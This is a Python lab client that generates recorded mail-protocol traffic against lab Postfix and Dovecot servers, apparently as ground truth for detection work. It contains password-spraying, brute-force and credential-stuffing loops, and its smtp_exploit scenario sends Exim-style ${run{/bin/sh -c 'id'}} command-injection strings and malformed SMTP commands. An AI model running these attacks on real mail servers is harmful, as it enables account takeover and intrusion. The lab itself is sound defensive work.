# SPDX-License-Identifier: BSD-3-Clause
"""The client side of the mailtap lab: one function per scenario.

lab.sh runs this inside the client network namespace, once per scenario:

    labclient.py CONFIG.json SCENARIO OUT.json

It talks to the real Postfix and Dovecot in the server namespace with real
clients (swaks and curl as subprocesses, Python's smtplib, imaplib and
poplib) and writes what it did and what each client reported to OUT.json:
one entry per TCP connection, in the order the connections were opened
(truth.py matches them to the SYNs in the capture). Nothing here decides
whether a server "should" have accepted something: results are what the
client library saw.

Helper commands run outside the namespaces:

    labclient.py CONFIG.json setup-files      users file and vmailbox map
    labclient.py CONFIG.json seed USER COUNT [SIZE]   fixed Maildir content
    labclient.py CONFIG.json seed-spec SCENARIO       what to seed for it
    labclient.py list                                 scenario names

Standard library only; every socket has a timeout so a stuck server fails
the scenario instead of hanging the lab.
"""
import imaplib
import json
import os
import poplib
import re
import smtplib
import socket
import ssl
import subprocess
import sys
import time

sys.dont_write_bytecode = True  # no __pycache__ in the source tree
sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
import labmsg  # noqa: E402
from labmsg import USERS, addr  # noqa: E402

TIMEOUT = 15
CFG = {}


# --- helpers -----------------------------------------------------------------

def tls_context():
    """Client context that accepts the lab's self-signed certificate."""
    ctx = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    ctx.check_hostname = False
    ctx.verify_mode = ssl.CERT_NONE
    return ctx


def tls_facts(sock, sni):
    return {"version": sock.version(), "cipher": sock.cipher()[0], "sni": sni}


def endpoint(ip, port):
    return {"ip": ip, "port": port}


def session(proto, service, server_ip, port, client_ip=None, software=None):
    s = {
        "protocol": proto,
        "service": service,
        "server": endpoint(server_ip, port),
        "client": endpoint(client_ip or (CFG["cli6"] if ":" in server_ip else CFG["cli4"]), None),
        "tls": "none",
        "auth": [],
    }
    if software:
        s["client_software"] = software
    return s


def set_client(s, sock_or_addr):
    if isinstance(sock_or_addr, tuple):
        ip, port = sock_or_addr[:2]
    else:
        ip, port = sock_or_addr.getsockname()[:2]
    s["client"] = endpoint(ip, port)


def attempt(command, mechanism, user, password, ok, reply, cleartext, **extra):
    a = {
        "command": command,
        "mechanism": mechanism,
        "user": user,
        "password": password,
        "user_exists": user in USERS,
        "password_correct": USERS.get(user) == password,
        "result": "success" if ok else "failure",
        "reply": reply,
        "cleartext": cleartext,
    }
    a.update(extra)
    return a


def text(b):
    if isinstance(b, bytes):
        return b.decode("utf-8", "replace")
    if isinstance(b, (list, tuple)):
        return " ".join(text(x) for x in b if x is not None)
    return str(b)


# --- swaks -------------------------------------------------------------------

SERVER_PREFIXES = ("<-", "<~", "<**", "<~*")
CLIENT_PREFIXES = ("->", "~>", "**>", "*~>")


def parse_swaks(out):
    """swaks transcript -> [(client line, [server reply lines])]."""
    pairs = [(None, [])]
    for raw in out.splitlines():
        line = raw.strip("\r")
        stripped = line.lstrip()
        head = stripped.split(" ", 1)[0]
        rest = stripped[len(head):].strip(" ") if " " in stripped else ""
        if head in CLIENT_PREFIXES:
            pairs.append((rest, []))
        elif head in SERVER_PREFIXES:
            pairs[-1][1].append(rest)
    return pairs


def swaks(s, args, auth_user=None, auth_password=None, mechanism=None):
    """Runs swaks, fills session s from its transcript; returns exit code."""
    cmd = [CFG["swaks"], "--timeout", "10", "--helo", labmsg.CLIENT_HELO] + args
    if auth_user is not None:
        cmd += ["--auth", mechanism, "--auth-user", auth_user, "--auth-password", auth_password]
    # Relative file names (run in the client directory) keep the recorded
    # argv free of the temporary directory's random name.
    p = subprocess.run(cmd, stdout=subprocess.PIPE, stderr=subprocess.STDOUT, timeout=60,
                       cwd=CFG["tmp"])
    out = p.stdout.decode("utf-8", "replace")
    s["client_software"] = "swaks"
    s["client_argv"] = ["swaks"] + cmd[1:]
    s["exit_code"] = p.returncode
    pairs = parse_swaks(out)
    cleartext = True
    pending_auth = None
    tx = None
    for cmdline, replies in pairs:
        final = replies[-1] if replies else None
        code = int(final[:3]) if final and final[:3].isdigit() else None
        if cmdline is None:
            s["greeting"] = final
            continue
        verb = cmdline.split(" ", 1)[0].upper()
        if verb in ("EHLO", "HELO") and "helo" not in s:
            s["helo"] = cmdline.split(" ", 1)[1] if " " in cmdline else ""
            s["ehlo_capabilities"] = [r[4:] for r in replies[1:]]
            s["starttls_offered"] = any(r[4:].upper() == "STARTTLS" for r in replies)
        elif verb in ("EHLO", "HELO"):
            s["ehlo_capabilities_after_tls"] = [r[4:] for r in replies[1:]]
        elif verb == "STARTTLS":
            s["starttls_reply"] = final
            if code == 220:
                cleartext = False
                s["tls"] = "starttls"
        elif verb == "AUTH":
            pending_auth = cmdline.split(" ")[1].upper()
        # An AUTH exchange ends with the first reply that is not 334.
        if pending_auth and code is not None and code != 334:
            s["auth"].append(attempt("AUTH", pending_auth, auth_user, auth_password, code == 235,
                                     final, cleartext))
            pending_auth = None
        if verb == "MAIL":
            tx = {"mail_from": cmdline[len("MAIL FROM:"):], "mail_from_reply": final, "rcpt_to": []}
            s.setdefault("transactions", []).append(tx)
        elif verb == "RCPT" and tx is not None:
            tx["rcpt_to"].append({"addr": cmdline[len("RCPT TO:"):], "reply": final})
        elif verb == "DATA" and tx is not None:
            tx["data_reply"] = final
        elif cmdline == "." and tx is not None:
            tx["end_of_data_reply"] = final
            tx["accepted"] = code == 250
        elif verb == "QUIT":
            s["quit_reply"] = final
    m = re.search(r"^=== TLS started with cipher ([^:\s]+):([^:\s]+)", out, re.M)
    if m:
        s["tls_info"] = {"version": m.group(1), "cipher": m.group(2),
                         "sni": args[args.index("--tls-sni") + 1] if "--tls-sni" in args else None}
    s["transcript"] = out.splitlines()
    return p.returncode


def swaks_target(ip, port):
    return ["--server", ip, "--port", str(port)]


# --- SMTP scenarios ----------------------------------------------------------

def message_facts(data, subject, msgid, rcpts):
    return {"size": len(data), "sha256": labmsg.sha256(data), "subject": subject,
            "message_id": msgid, "header_to": rcpts}


def write_tmp(name, data):
    """Writes a file into the client directory; returns its relative name."""
    with open(os.path.join(CFG["tmp"], name), "wb") as f:
        f.write(data)
    return name


def sc_smtp_submission(out):
    rc = [addr("bob"), addr("carol")]
    data = labmsg.text_message(addr("alice"), rc, "Lab submission, cleartext AUTH PLAIN",
                               "submission.1@example.test",
                               "Hi Bob, hi Carol,\n\nthis message was submitted on port 587 without TLS.\n\nAlice\n")
    s = session("smtp", "submission", CFG["srv4"], 587)
    swaks(s, swaks_target(CFG["srv4"], 587) + ["--from", addr("alice"), "--to", ",".join(rc),
                                               "--data", "@" + write_tmp("sub.eml", data)],
          "alice", USERS["alice"], "PLAIN")
    s["transactions"][0]["message"] = message_facts(data, "Lab submission, cleartext AUTH PLAIN",
                                                    "<submission.1@example.test>", rc)
    out.append(s)


def sc_smtp_submission_starttls(out):
    rc = [addr("bob")]
    data = labmsg.text_message(addr("alice"), rc, "Lab submission over STARTTLS",
                               "submission.2@example.test",
                               "Hi Bob,\n\nthis one went through STARTTLS and AUTH LOGIN.\n\nAlice\n")
    s = session("smtp", "submission", CFG["srv4"], 587)
    swaks(s, swaks_target(CFG["srv4"], 587) + ["--tls", "--tls-sni", labmsg.HOST, "--from", addr("alice"),
                                               "--to", rc[0], "--data", "@" + write_tmp("sub2.eml", data)],
          "alice", USERS["alice"], "LOGIN")
    s["sni"] = labmsg.HOST
    s["transactions"][0]["message"] = message_facts(data, "Lab submission over STARTTLS",
                                                    "<submission.2@example.test>", rc)
    out.append(s)


def smtp_connect(ip, port, source=None):
    smtp = smtplib.SMTP(timeout=TIMEOUT, source_address=(source, 0) if source else None)
    code, msg = smtp.connect(ip, port)
    return smtp, "%d %s" % (code, text(msg))


def reply(code_msg):
    code, msg = code_msg
    return "%d %s" % (code, text(msg).replace("\n", " / "))


def sc_smtp_mx_attachment(out):
    rcpts = [addr("alice"), "nosuchuser@example.test", addr("bob")]
    data, info = labmsg.mx_message("Mallory Partner <mallory@partner.test>", rcpts)
    s = session("smtp", "mx", CFG["srv4"], 25, software="python3 smtplib")
    smtp, greet = smtp_connect(CFG["srv4"], 25)
    set_client(s, smtp.sock)
    s["greeting"] = greet
    s["helo"] = "relay.partner.test"
    code, msg = smtp.ehlo("relay.partner.test")
    s["ehlo_reply"] = code
    s["starttls_offered"] = smtp.has_extn("starttls")
    tx = {"mail_from": "<mallory@partner.test>", "rcpt_to": []}
    tx["mail_from_reply"] = reply(smtp.mail("mallory@partner.test", ["SIZE=%d" % len(data)]))
    for r in rcpts:
        tx["rcpt_to"].append({"addr": "<%s>" % r, "reply": reply(smtp.rcpt(r))})
    code, msg = smtp.data(data)
    tx["end_of_data_reply"] = "%d %s" % (code, text(msg))
    tx["accepted"] = code == 250
    tx["accepted_rcpts"] = [r["addr"] for r in tx["rcpt_to"] if r["reply"].startswith("250")]
    tx["rejected_rcpts"] = [r["addr"] for r in tx["rcpt_to"] if r["reply"].startswith("5")]
    info.update({"size": len(data), "sha256": labmsg.sha256(data), "header_to": rcpts,
                 "header_from": "Mallory Partner <mallory@partner.test>",
                 "content_type": "multipart/mixed", "x_mailer": "mailtap-lab smtplib"})
    tx["message"] = info
    s["transactions"] = [tx]
    s["quit_reply"] = reply(smtp.quit())
    out.append(s)


def smtp_auth(smtp, s, mech, user, password, initial_response):
    """One AUTH attempt through smtplib; records it in s."""
    def plain(challenge=None):
        return "\0%s\0%s" % (user, password)

    state = {"n": 0}

    def login(challenge=None):
        state["n"] += 1
        if challenge is None:
            return user
        return user if challenge.lower().startswith(b"username") else password

    obj = plain if mech == "PLAIN" else login
    try:
        code, msg = smtp.auth(mech, obj, initial_response_ok=initial_response)
        ok = code == 235
    except smtplib.SMTPAuthenticationError as e:
        code, msg, ok = e.smtp_code, e.smtp_error, False
    s["auth"].append(attempt("AUTH", mech, user, password, ok, "%d %s" % (code, text(msg)),
                             s["tls"] == "none", initial_response=initial_response))
    return ok


def sc_smtp_auth_failures(out):
    s = session("smtp", "submission", CFG["srv4"], 587, software="python3 smtplib")
    smtp, greet = smtp_connect(CFG["srv4"], 587)
    set_client(s, smtp.sock)
    s["greeting"] = greet
    smtp.ehlo(labmsg.CLIENT_HELO)
    s["helo"] = labmsg.CLIENT_HELO
    s["starttls_offered"] = smtp.has_extn("starttls")
    s["auth_offered"] = smtp.esmtp_features.get("auth", "").split()
    smtp_auth(smtp, s, "LOGIN", "alice", "alice123", True)
    smtp_auth(smtp, s, "PLAIN", "bob", "Summer2024", False)
    smtp_auth(smtp, s, "PLAIN", "alice", USERS["alice"], True)
    s["quit_reply"] = reply(smtp.quit())
    out.append(s)


SPRAY_USERS = ["admin", "alice", "bob", "carol", "dave", "erin", "frank", "grace",
               "info", "sales", "support", "postmaster"]
SPRAY_PASSWORD = "Spring2024!"


def sc_smtp_spraying(out):
    for u in SPRAY_USERS:
        s = session("smtp", "submission", CFG["srv4"], 587)
        swaks(s, swaks_target(CFG["srv4"], 587) + ["--quit-after", "AUTH", "--from", addr("alice"),
                                                   "--to", addr("bob")],
              u, SPRAY_PASSWORD, "PLAIN")
        out.append(s)


def sc_smtps_sni(out):
    """curl over implicit TLS (465), TLS 1.2 so the certificate is visible."""
    data = labmsg.text_message(addr("alice"), [addr("carol")], "Lab message over SMTPS",
                               "smtps.1@example.test", "Carol,\n\nsent over implicit TLS on 465.\n\nAlice\n")
    path = write_tmp("smtps.eml", data)
    s = session("smtp", "smtps", CFG["srv4"], 465)
    cmd = ["curl", "-sS", "-v", "--insecure", "--tls-max", "1.2", "--max-time", "20",
           "--connect-to", "%s:465:%s:465" % (labmsg.HOST, CFG["srv4"]),
           "--user", "alice:%s" % USERS["alice"], "--login-options", "AUTH=PLAIN",
           "--mail-from", addr("alice"), "--mail-rcpt", addr("carol"),
           "--upload-file", path, "smtps://%s/%s" % (labmsg.HOST, labmsg.CLIENT_HELO)]
    v = curl(s, cmd)
    s["helo"] = labmsg.CLIENT_HELO
    tx = {"mail_from": "<%s>" % addr("alice"), "rcpt_to": []}
    pending_auth = None
    for cmdline, rep in curl_pairs(v):
        verb = cmdline.split(" ", 1)[0].upper() if cmdline else ""
        code = rep[:3] if rep else ""
        if verb == "AUTH":
            pending_auth = cmdline.split(" ")[1].upper()
        if pending_auth and code and code != "334":
            s["auth"].append(attempt("AUTH", pending_auth, "alice", USERS["alice"], code == "235", rep, False))
            pending_auth = None
        if verb == "MAIL":
            tx["mail_from_reply"] = rep
        elif verb == "RCPT":
            tx["rcpt_to"].append({"addr": cmdline[len("RCPT TO:"):], "reply": rep})
        elif verb == "DATA":
            tx["data_reply"] = rep
        elif verb == "QUIT":
            s["quit_reply"] = rep
        elif cmdline is None and code == "250" and "queued" in rep:
            tx["end_of_data_reply"] = rep
    tx["accepted"] = "end_of_data_reply" in tx
    tx["message"] = message_facts(data, "Lab message over SMTPS", "<smtps.1@example.test>", [addr("carol")])
    s["transactions"] = [tx]
    out.append(s)


def curl_pairs(v):
    """curl -v protocol lines -> [(client line or None, final server reply line)].

    curl shows what it sent as "> " lines and what it got as "< " lines;
    replies that follow no command line (greeting, end of DATA) get None.
    """
    pairs = []
    cmd = None
    for line in v.splitlines():
        if line.startswith("> "):
            cmd = line[2:]
        elif line.startswith("< "):
            r = line[2:]
            if len(r) > 3 and r[3] == "-":
                continue  # a continuation line of a multi-line reply
            pairs.append((cmd, r))
            cmd = None
    return pairs


def curl(s, cmd):
    p = subprocess.run(cmd, stdout=subprocess.PIPE, stderr=subprocess.PIPE, timeout=60, cwd=CFG["tmp"])
    v = p.stderr.decode("utf-8", "replace")
    s["client_software"] = "curl"
    s["client_argv"] = cmd
    s["exit_code"] = p.returncode
    s["tls"] = "implicit"
    m = re.search(r"SSL connection using (\S+) / (\S+)", v)
    s["tls_info"] = {"version": m.group(1) if m else None, "cipher": m.group(2) if m else None,
                     "sni": labmsg.HOST}
    s["sni"] = labmsg.HOST
    s["curl_verbose"] = [l for l in v.splitlines() if l[:2] in ("< ", "> ", "* ")]
    s["stdout_sha256"] = labmsg.sha256(p.stdout)
    s["_stdout"] = p.stdout
    return v


# --- IMAP --------------------------------------------------------------------

class IMAP(imaplib.IMAP4):
    """imaplib.IMAP4 that can bind a source address and set the SNI name."""

    def __init__(self, host, port=143, source=None, implicit_tls=False, sni=None):
        self.source = source
        self.implicit_tls = implicit_tls
        self.sni = sni
        self.tls = None
        super().__init__(host, port, timeout=TIMEOUT)

    def _create_socket(self, timeout):
        src = (self.source, 0) if self.source else None
        sock = socket.create_connection((self.host, self.port), timeout, source_address=src)
        self.local_addr = sock.getsockname()
        if self.implicit_tls:
            sock = tls_context().wrap_socket(sock, server_hostname=self.sni)
            self.tls = tls_facts(sock, self.sni)
        return sock

    def starttls_sni(self, sni):
        host, self.host = self.host, sni
        try:
            self.starttls(tls_context())
        finally:
            self.host = host
        self.tls = tls_facts(self.sock, sni)


def imap_session(service, server_ip, port, source=None, implicit_tls=False, sni=None):
    s = session("imap", service, server_ip, port, client_ip=source, software="python3 imaplib")
    m = IMAP(server_ip, port, source, implicit_tls, sni)
    set_client(s, m.local_addr)
    s["greeting"] = text(m.welcome)
    # imaplib asks for CAPABILITY itself right after the greeting.
    s["commands"] = ["CAPABILITY"]
    if implicit_tls:
        s["tls"] = "implicit"
        s["tls_info"] = m.tls
        s["sni"] = sni
    return s, m


def imap_cmd(s, name):
    s["commands"].append(name)


def imap_login(m, s, user, password):
    imap_cmd(s, "LOGIN")
    try:
        typ, dat = m.login(user, password)
        ok, rep = typ == "OK", "%s %s" % (typ, text(dat))
    except imaplib.IMAP4.error as e:
        ok, rep = False, "NO " + text(e.args[0] if e.args else "")
    s["auth"].append(attempt("LOGIN", "LOGIN", user, password, ok, rep, s["tls"] == "none"))
    return ok


def imap_logout(m, s):
    imap_cmd(s, "LOGOUT")
    typ, dat = m.logout()
    s["logout_reply"] = "%s %s" % (typ, text(dat))


def imap_capability(m, s):
    imap_cmd(s, "CAPABILITY")
    typ, dat = m.capability()
    s["capabilities"] = text(dat).split()


def imap_select(m, s, box="INBOX"):
    imap_cmd(s, "SELECT")
    typ, dat = m.select(box)
    s.setdefault("selected", []).append({"mailbox": box, "exists": int(dat[0]), "reply": typ})
    return int(dat[0])


def fetched_literals(dat):
    """Sizes and hashes of the literals in an imaplib FETCH response."""
    out = []
    for item in dat:
        if isinstance(item, tuple):
            out.append({"size": len(item[1]), "sha256": labmsg.sha256(item[1])})
    return out


def sc_imap_session(out, seeded):
    s, m = imap_session("imap", CFG["srv4"], 143)
    imap_capability(m, s)
    imap_login(m, s, "bob", "bob-wrong-1")
    imap_login(m, s, "bob", USERS["bob"])
    exists = imap_select(m, s)
    imap_cmd(s, "FETCH")
    typ, dat = m.fetch("1:*", "(BODY.PEEK[])")
    lits = fetched_literals(dat)
    s["fetch"] = [{"sequence_set": "1:*", "items": "(BODY.PEEK[])", "messages": len(lits),
                   "bytes": sum(x["size"] for x in lits), "literals": lits}]
    imap_cmd(s, "STORE")
    typ, dat = m.store("2", "+FLAGS", "(\\Deleted)")
    s["store"] = [{"sequence_set": "2", "flags": "+FLAGS (\\Deleted)", "reply": typ}]
    imap_cmd(s, "EXPUNGE")
    typ, dat = m.expunge()
    s["expunged"] = [int(x) for x in dat if x]
    imap_logout(m, s)
    s["mailbox_before"] = {"messages": exists, "seeded": seeded}
    out.append(s)


def sc_imaps_sni(out, seeded):
    s, m = imap_session("imaps", CFG["srv4"], 993, implicit_tls=True, sni=labmsg.HOST)
    imap_capability(m, s)
    imap_login(m, s, "alice", USERS["alice"])
    exists = imap_select(m, s)
    imap_cmd(s, "FETCH")
    typ, dat = m.fetch("1:*", "(FLAGS RFC822.SIZE BODY.PEEK[HEADER.FIELDS (SUBJECT)])")
    s["fetch"] = [{"sequence_set": "1:*", "items": "(FLAGS RFC822.SIZE BODY.PEEK[HEADER.FIELDS (SUBJECT)])",
                   "messages": len(fetched_literals(dat))}]
    imap_logout(m, s)
    s["mailbox_before"] = {"messages": exists, "seeded": seeded}
    out.append(s)


def sc_imap_starttls(out, seeded):
    s, m = imap_session("imap", CFG["srv6"], 143)
    s["starttls_offered"] = "STARTTLS" in m.capabilities
    s["logindisabled_before_tls"] = "LOGINDISABLED" in m.capabilities
    imap_cmd(s, "STARTTLS")
    m.starttls_sni(labmsg.HOST)
    s["tls"] = "starttls"
    s["tls_info"] = m.tls
    s["sni"] = labmsg.HOST
    s["capabilities_after_tls"] = list(m.capabilities)
    imap_login(m, s, "carol", USERS["carol"])
    exists = imap_select(m, s)
    imap_cmd(s, "FETCH")
    typ, dat = m.fetch("1", "(BODY.PEEK[])")
    lits = fetched_literals(dat)
    s["fetch"] = [{"sequence_set": "1", "items": "(BODY.PEEK[])", "messages": len(lits),
                   "bytes": sum(x["size"] for x in lits)}]
    imap_logout(m, s)
    s["mailbox_before"] = {"messages": exists, "seeded": seeded}
    out.append(s)


BRUTE_PASSWORDS = ["123456", "password", "dave", "dave123", "qwerty", "letmein", "dave2024",
                   "Password1", "welcome", "admin", "iloveyou", "monkey", "dragon",
                   "Dave-Secret!", "d4ve-secret!"]


def sc_imap_bruteforce(out, seeded):
    for pw in BRUTE_PASSWORDS:
        s, m = imap_session("imap", CFG["srv4"], 143)
        imap_login(m, s, "dave", pw)
        imap_logout(m, s)
        out.append(s)
    s, m = imap_session("imap", CFG["srv4"], 143)
    imap_login(m, s, "dave", USERS["dave"])
    imap_select(m, s)
    imap_logout(m, s)
    out.append(s)


STUFFED_PASSWORDS = ["erin1990", "Erin2019!", "erinmail", "Sunshine1", "erin@2020",
                     "Mail2023#", "Erin-2022", "password123", "Erin#Mail2023", "erinerin"]


def sc_imap_stuffing(out, seeded):
    sources = CFG["extra4"]
    for src, pw in zip(sources, STUFFED_PASSWORDS):
        s, m = imap_session("imap", CFG["srv4"], 143, source=src)
        imap_login(m, s, "erin", pw)
        imap_logout(m, s)
        out.append(s)
    s, m = imap_session("imap", CFG["srv4"], 143, source=sources[-1])
    imap_login(m, s, "erin", USERS["erin"])
    imap_select(m, s)
    imap_logout(m, s)
    out.append(s)


def sc_imap_mass_download(out, seeded):
    s, m = imap_session("imap", CFG["srv4"], 143)
    imap_login(m, s, "frank", USERS["frank"])
    exists = imap_select(m, s)
    imap_cmd(s, "UID SEARCH")
    typ, dat = m.uid("SEARCH", "ALL")
    uids = text(dat).split()
    s["fetch"] = []
    total = 0
    for uid in uids:
        imap_cmd(s, "UID FETCH")
        typ, dat = m.uid("FETCH", uid, "(BODY[])")
        lits = fetched_literals(dat)
        total += sum(x["size"] for x in lits)
        s["fetch"].append({"uid": int(uid), "items": "(BODY[])", "size": lits[0]["size"],
                           "sha256": lits[0]["sha256"]})
    imap_logout(m, s)
    s["messages_fetched"] = len(s["fetch"])
    s["bytes_fetched"] = total
    s["mailbox_before"] = {"messages": exists, "seeded_count": len(seeded)}
    s["fetched_equals_seeded"] = [f["sha256"] for f in s["fetch"]] == [x["sha256"] for x in seeded]
    out.append(s)


# --- POP3 --------------------------------------------------------------------

class POP3(poplib.POP3):
    def __init__(self, host, port=110, source=None):
        self.source = source
        super().__init__(host, port, timeout=TIMEOUT)

    def _create_socket(self, timeout):
        src = (self.source, 0) if self.source else None
        return socket.create_connection((self.host, self.port), timeout, source_address=src)


def pop3_login(p, s, user, password):
    s["commands"] += ["USER", "PASS"]
    try:
        p.user(user)
        r = p.pass_(password)
        ok, rep = True, text(r)
    except poplib.error_proto as e:
        ok, rep = False, text(e.args[0])
    s["auth"].append(attempt("USER/PASS", "USER", user, password, ok, rep, True))
    return ok


def pop3_session_open(service="pop3", ip=None, port=110):
    s = session("pop3", service, ip or CFG["srv4"], port, software="python3 poplib")
    p = POP3(ip or CFG["srv4"], port)
    set_client(s, p.sock)
    s["greeting"] = text(p.welcome)
    s["commands"] = []
    return s, p


def sc_pop3_session(out, seeded):
    s, p = pop3_session_open()
    s["commands"].append("CAPA")
    s["capabilities"] = sorted(p.capa().keys())
    pop3_login(p, s, "carol", "carol-wrong")
    pop3_login(p, s, "carol", USERS["carol"])
    s["commands"].append("STAT")
    count, size = p.stat()
    s["stat"] = {"messages": count, "octets": size}
    s["commands"].append("LIST")
    resp, lines, octets = p.list()
    s["list"] = [text(l) for l in lines]
    s["retr"] = []
    for i in range(1, count + 1):
        s["commands"].append("RETR")
        resp, lines, octets = p.retr(i)
        body = b"\r\n".join(lines) + b"\r\n"
        s["retr"].append({"msg": i, "octets": octets, "sha256": labmsg.sha256(body)})
    s["commands"].append("DELE")
    s["dele"] = [{"msg": 1, "reply": text(p.dele(1))}]
    s["commands"].append("QUIT")
    s["quit_reply"] = text(p.quit())
    s["messages_retrieved"] = len(s["retr"])
    s["mailbox_before"] = {"messages": count, "seeded": seeded}
    out.append(s)


def sc_pop3_mass_download(out, seeded):
    s, p = pop3_session_open()
    pop3_login(p, s, "grace", USERS["grace"])
    s["commands"].append("STAT")
    count, size = p.stat()
    s["stat"] = {"messages": count, "octets": size}
    s["commands"].append("UIDL")
    p.uidl()
    s["retr"] = []
    total = 0
    for i in range(1, count + 1):
        s["commands"].append("RETR")
        resp, lines, octets = p.retr(i)
        body = b"\r\n".join(lines) + b"\r\n"
        total += len(body)
        s["retr"].append({"msg": i, "octets": octets, "sha256": labmsg.sha256(body)})
    s["commands"].append("QUIT")
    s["quit_reply"] = text(p.quit())
    s["messages_retrieved"] = count
    s["bytes_retrieved"] = total
    s["mailbox_before"] = {"messages": count, "seeded_count": len(seeded)}
    s["retrieved_equals_seeded"] = [r["sha256"] for r in s["retr"]] == [x["sha256"] for x in seeded]
    out.append(s)


def sc_pop3s_sni(out, seeded):
    """curl over implicit TLS (995), IPv6, SNI from --connect-to."""
    s = session("pop3", "pop3s", CFG["srv6"], 995)
    url = "pop3s://%s/" % labmsg.HOST
    cmd = ["curl", "-sS", "-v", "--insecure", "--max-time", "20",
           "--connect-to", "%s:995:[%s]:995" % (labmsg.HOST, CFG["srv6"]),
           "--user", "bob:%s" % USERS["bob"], url, url + "1"]
    v = curl(s, cmd)
    ok = any(l.startswith("< +OK") and "Logged in" in l for l in v.splitlines())
    s["auth"].append(attempt("AUTH" if "> AUTH" in v else "USER/PASS",
                             "PLAIN" if "> AUTH PLAIN" in v else "USER", "bob", USERS["bob"], ok,
                             next((l[2:] for l in v.splitlines() if "Logged in" in l), None), False))
    # curl sends AUTH PLAIN without an initial response, waits for "+ ",
    # then sends the credentials line (kept out of the command list).
    pop3_verbs = {"CAPA", "AUTH", "USER", "PASS", "STAT", "LIST", "RETR", "UIDL", "TOP", "DELE", "QUIT", "STLS"}
    s["commands"] = [c.split(" ")[0] for c, _r in curl_pairs(v) if c and c.split(" ")[0] in pop3_verbs]
    s["retr"] = [{"msg": 1, "reply": r} for c, r in curl_pairs(v) if c and c.startswith("RETR")]
    body = s["_stdout"]
    s["messages_retrieved"] = 1
    s["mailbox_before"] = {"seeded": seeded}
    s["retrieved_listing_and_message_sha256"] = labmsg.sha256(body)
    out.append(s)


# --- STARTTLS stripping ------------------------------------------------------

def sc_starttls_stripping(out, mode):
    rc = [addr("bob")]
    subject = "Lab message through a STARTTLS-stripping relay (%s)" % mode
    data = labmsg.text_message(addr("alice"), rc, subject, "strip.%s@example.test" % mode,
                               "Bob,\n\nthe relay in front of the server hid STARTTLS from my client.\n\nAlice\n")
    s = session("smtp", "submission", CFG["mitm4"], 587)
    mech = "PLAIN" if mode == "mangle" else "LOGIN"
    swaks(s, swaks_target(CFG["mitm4"], 587) + ["--tls-optional", "--from", addr("alice"), "--to", rc[0],
                                                "--data", "@" + write_tmp("strip.eml", data)],
          "alice", USERS["alice"], mech)
    s["mitm"] = {
        "mode": mode,
        "listen": endpoint(CFG["mitm4"], 587),
        "upstream": endpoint(CFG["srv4"], 587),
        "upstream_captured": False,
        "note": "the relay runs in the server namespace and reaches Postfix over the namespace's "
                "loopback, so only the client<->relay leg is on the captured veth",
    }
    s["transactions"][0]["message"] = message_facts(data, subject, "<strip.%s@example.test>" % mode, rc)
    out.append(s)


# --- hostile SMTP ------------------------------------------------------------

def raw_smtp(ip, port, steps, early=None):
    """Raw SMTP conversation: returns (session, [(sent, reply)])."""
    s = session("smtp", "mx", ip, port, software="python3 socket")
    sock = socket.create_connection((ip, port), TIMEOUT)
    set_client(s, sock)
    f = sock.makefile("rb")

    def read_reply():
        lines = []
        while True:
            line = f.readline()
            if not line:
                break
            lines.append(line.rstrip(b"\r\n").decode("utf-8", "replace"))
            if len(line) < 4 or line[3:4] != b"-":
                break
        return " / ".join(lines) if lines else None

    conv = []
    if early is not None:
        sock.sendall(early)
        conv.append({"sent": early.decode("latin-1"), "sent_before_greeting": True})
    s["greeting"] = read_reply()
    if early is not None:
        conv[-1]["reply"] = read_reply()
    for line in steps:
        sock.sendall(line)
        conv.append({"sent": line.decode("latin-1"), "length": len(line), "reply": read_reply()})
        if conv[-1]["reply"] is None:
            conv[-1]["reply"] = "(connection closed)"
            break
    sock.close()
    s["exchange"] = conv
    return s


def sc_smtp_exploit(out):
    ip = CFG["srv4"]
    ehlo = b"EHLO attacker.test\r\n"
    # Port 2525 greets a second late, so the EHLO really precedes the 220
    # on the wire (Postfix on 25 greets faster than the client can send).
    s = raw_smtp(ip, 2525, [b"QUIT\r\n"], early=ehlo)
    s["probe"] = "command before greeting (EHLO sent right after connect, server greets after 1 s)"
    out.append(s)
    s = raw_smtp(ip, 25, [ehlo, b"MAIL FROM:<${run{/bin/true}}@example.test>\r\n",
                          b"RCPT TO:<root+${run{x}}@example.test>\r\n",
                          b"RCPT TO:<${run{/bin/sh -c 'id'}}@example.test>\r\n",
                          b"RSET\r\n", b"QUIT\r\n"])
    s["probe"] = "Exim-style ${run{...}} expansion strings in MAIL FROM and RCPT TO"
    out.append(s)
    long_line = b"MAIL FROM:<" + b"A" * (2000 - len(b"MAIL FROM:<@example.test>\r\n")) + b"@example.test>\r\n"
    assert len(long_line) == 2000
    s = raw_smtp(ip, 25, [ehlo, long_line, b"RSET\r\n",
                          b"HELO " + b"B" * (4096 - 7) + b"\r\n", b"QUIT\r\n"])
    s["probe"] = "over-long command lines (2000 and 4096 bytes including CRLF)"
    out.append(s)
    s = raw_smtp(ip, 25, [ehlo, b"MAIL FROM:<nul\x00byte@example.test>\r\n", b"RSET\r\n",
                          b"RCPT\x00TO:<alice@example.test>\r\n", b"QUIT\r\n"])
    s["probe"] = "NUL bytes inside commands"
    out.append(s)


# --- driver ------------------------------------------------------------------

# scenario -> (function, mailbox to seed first: (user, count, size) or None)
SCENARIOS = {
    "smtp_submission": (sc_smtp_submission, None),
    "smtp_submission_starttls": (sc_smtp_submission_starttls, None),
    "smtp_mx_attachment": (sc_smtp_mx_attachment, None),
    "smtp_auth_failures": (sc_smtp_auth_failures, None),
    "imap_session": (sc_imap_session, ("bob", 3, 0)),
    "pop3_session": (sc_pop3_session, ("carol", 3, 0)),
    "imaps_sni": (sc_imaps_sni, ("alice", 2, 0)),
    "pop3s_sni": (sc_pop3s_sni, ("bob", 1, 0)),
    "smtps_sni": (sc_smtps_sni, None),
    "imap_starttls": (sc_imap_starttls, ("carol", 2, 0)),
    "imap_bruteforce": (sc_imap_bruteforce, ("dave", 1, 0)),
    "smtp_spraying": (sc_smtp_spraying, None),
    "imap_stuffing": (sc_imap_stuffing, ("erin", 1, 0)),
    "imap_mass_download": (sc_imap_mass_download, ("frank", 60, 700)),
    "pop3_mass_download": (sc_pop3_mass_download, ("grace", 60, 700)),
    "starttls_stripping": (lambda out: sc_starttls_stripping(out, "mangle"), None),
    "starttls_stripping_454": (lambda out: sc_starttls_stripping(out, "454"), None),
    "smtp_exploit": (sc_smtp_exploit, None),
}


def main():
    global CFG
    if sys.argv[1:] == ["list"]:
        print(" ".join(SCENARIOS))
        return
    if len(sys.argv) < 3:
        sys.exit(__doc__)
    with open(sys.argv[1]) as f:
        CFG = json.load(f)
